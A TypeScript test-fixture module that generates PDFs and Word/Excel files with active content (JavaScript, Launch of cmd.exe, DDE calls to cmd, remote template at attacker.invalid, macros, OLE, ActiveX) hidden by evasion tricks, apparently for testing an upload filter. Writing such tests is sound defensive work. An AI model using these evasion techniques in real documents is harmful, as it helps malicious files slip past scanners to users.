import { deflateRawSync, deflateSync } from 'node:zlib'

/**
 * Files carrying active content, made here in code (issue 9, item 10): PDFs with scripts or
 * actions, Office documents with macros, external templates, OLE objects, ActiveX or DDE, and
 * their harmless twins. Shared by the integration tests of uploads.
 */

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
/** CRC-32 as ZIP and PNG use it. */
export const crc32 = (buf: Buffer): number => {
  let c = 0xffffffff
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff]! ^ (c >>> 8)
  return (c ^ 0xffffffff) >>> 0
}

/** A ZIP (deflated entries, as Office writes them) with local headers, central directory and EOCD. */
export const makeZip = (files: Record<string, string | Buffer>): Buffer => {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const [name, content] of Object.entries(files)) {
    const raw = Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8')
    const data = deflateRawSync(raw)
    const nameBuf = Buffer.from(name, 'utf8')
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(0x0800, 6)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(crc32(raw), 14)
    local.writeUInt32LE(data.length, 18)
    local.writeUInt32LE(raw.length, 22)
    local.writeUInt16LE(nameBuf.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(0x0800, 8)
    central.writeUInt16LE(8, 10)
    central.writeUInt32LE(crc32(raw), 16)
    central.writeUInt32LE(data.length, 20)
    central.writeUInt32LE(raw.length, 24)
    central.writeUInt16LE(nameBuf.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, nameBuf, data)
    centrals.push(central, nameBuf)
    offset += 30 + nameBuf.length + data.length
  }
  const cd = Buffer.concat(centrals)
  const eocd = Buffer.alloc(22)
  eocd.writeUInt32LE(0x06054b50, 0)
  eocd.writeUInt16LE(Object.keys(files).length, 8)
  eocd.writeUInt16LE(Object.keys(files).length, 10)
  eocd.writeUInt32LE(cd.length, 12)
  eocd.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, cd, eocd])
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rel = (type: string, target: string, external = false) =>
  `${RELS}<Relationship Id="rId9" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`
const wordDoc = (inner: string) =>
  `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}<w:r><w:t>Thông báo</w:t></w:r></w:p></w:body></w:document>`

export const makeDocx = (extra: Record<string, string | Buffer> = {}): Buffer =>
  makeZip({
    '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': wordDoc(''),
    'word/_rels/document.xml.rels': `${RELS}<Relationship Id="rId1" Type="${R}/hyperlink" Target="https://angiang.gov.vn/" TargetMode="External"/></Relationships>`,
    ...extra,
  })

export const makeXlsx = (extra: Record<string, string | Buffer> = {}): Buffer =>
  makeZip({
    '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    '_rels/.rels': `${RELS}<Relationship Id="rId1" Type="${R}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Thu chi" sheetId="1"/></sheets></workbook>`,
    'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B3)</f></c></row></sheetData></worksheet>`,
    ...extra,
  })

/** A well-formed PDF with a correct xref table; `objects` are the bodies of objects 1..n. */
export const makePdf = (objects: (string | Buffer)[]): Buffer => {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  let size = parts[0]!.length
  const offsets: number[] = []
  objects.forEach((body, i) => {
    offsets.push(size)
    const obj = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n', 'latin1'),
    ])
    parts.push(obj)
    size += obj.length
  })
  const xref = [
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`,
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
  ].join('')
  parts.push(
    Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'),
  )
  return Buffer.concat(parts)
}
const content = 'BT /F1 12 Tf 72 720 Td (Thong bao) Tj ET'
const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
]
const pdfWith = (catalog: string, extra: (string | Buffer)[] = []) =>
  makePdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...PAGES, ...extra])
const objectStream = (object: string): Buffer => {
  const header = '6 0 '
  const data = deflateSync(Buffer.from(header + object, 'latin1'))
  return Buffer.concat([
    Buffer.from(`<< /N 1 /First ${header.length} /Filter [/FlateDecode] /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ])
}

export type Payload = { title: string; data: Buffer; name: string; says: RegExp }
const DOCX_NAME = 'van-ban.docx'

/** PDFs with active content, each hidden in a way a reader still runs it. */
const activePdfFiles = (): Payload[] => [
  {
    title: 'PDF: XFA form with a script',
    name: 'to-khai.pdf',
    says: /XFA/,
    data: pdfWith('/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', [
      '<< /Length 44 >>\nstream\n<template><script>app.alert(1)</script></template>\nendstream',
    ]),
  },
  {
    title: 'PDF: open action submitting a form, name hex-escaped',
    name: 'bieu-mau.pdf',
    says: /SubmitForm/,
    data: pdfWith('/OpenAction 6 0 R', ['<< /S /Subm#69tForm /F << /FS /URL /F (https://thu-thap.invalid/) >> >>']),
  },
  {
    title: 'PDF: embedded executable',
    name: 'dinh-kem.pdf',
    says: /tệp nhúng/,
    data: pdfWith('/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>', [
      '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
    ]),
  },
  {
    title: 'PDF: JavaScript inside a compressed object stream without /Type',
    name: 'nen.pdf',
    says: /JavaScript/,
    data: pdfWith('/OpenAction 6 0 R', [
      objectStream('<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid"\\)) >>'),
    ]),
  },
  {
    title: 'PDF: Launch added by an incremental update',
    name: 'cap-nhat.pdf',
    says: /Launch/,
    data: Buffer.concat([
      pdfWith(''),
      Buffer.from(
        '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj\n%%EOF\n',
        'latin1',
      ),
    ]),
  },
  {
    title: 'PDF: page open action fetching a URL',
    name: 'theo-doi.pdf',
    says: /\/URI/,
    data: pdfWith('/AA << /O << /S /URI /URI (https://tracker.invalid/p.gif) >> >>'),
  },
]

/** Office documents with active content, and a legacy one in disguise. */
const activeOfficeFiles = (): Payload[] => [
  {
    title: 'DOCX: external template (attachedTemplate, TargetMode External)',
    name: DOCX_NAME,
    says: /mẫu \(template\)/,
    data: makeDocx({
      'word/_rels/settings.xml.rels': rel('attachedTemplate', 'https://attacker.invalid/m.dotm', true),
    }),
  },
  {
    title: 'DOCX: OLE object (word/embeddings/*.bin)',
    name: DOCX_NAME,
    says: /đối tượng nhúng/,
    data: makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) }),
  },
  {
    title: 'DOCX: ActiveX control',
    name: DOCX_NAME,
    says: /ActiveX/,
    data: makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>', 'word/activeX/activeX1.bin': 'AX' }),
  },
  {
    title: 'DOCX: macros (a .docm renamed)',
    name: DOCX_NAME,
    says: /macro/,
    data: makeDocx({ 'word/vbaProject.bin': 'VBA' }),
  },
  {
    title: 'DOCX: DDEAUTO field split over runs',
    name: DOCX_NAME,
    says: /DDE/,
    data: makeDocx({
      'word/document.xml': wordDoc(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
    }),
  },
  {
    title: 'XLSX: OLE object and ActiveX',
    name: 'bang.xlsx',
    says: /đối tượng nhúng|ActiveX/,
    data: makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE', 'xl/activeX/activeX1.xml': '<ax/>' }),
  },
  {
    title: 'XLSX: external link with DDE',
    name: 'bang.xlsx',
    says: /bên ngoài/,
    data: makeXlsx({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  },
  {
    title: 'XLSX: DDE formula',
    name: 'bang.xlsx',
    says: /DDE/,
    data: makeXlsx({
      'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`,
    }),
  },
  {
    title: 'a legacy Word file (OLE compound) renamed .docx',
    name: DOCX_NAME,
    says: /định dạng cũ/,
    data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]),
  },
]

/** One file per class of active content, each hidden in a way a reader still runs it. */
export const activeContentFiles = (): Payload[] => [...activePdfFiles(), ...activeOfficeFiles()]

/** Ordinary documents that must still be accepted. */
export const ordinaryFiles = (): { name: string; data: Buffer }[] => [
  { name: 'thong-bao.pdf', data: pdfWith('/OpenAction [3 0 R /XYZ null null 0]') },
  { name: 'quyet-dinh.docx', data: makeDocx() },
  { name: 'du-toan.xlsx', data: makeXlsx() },
]
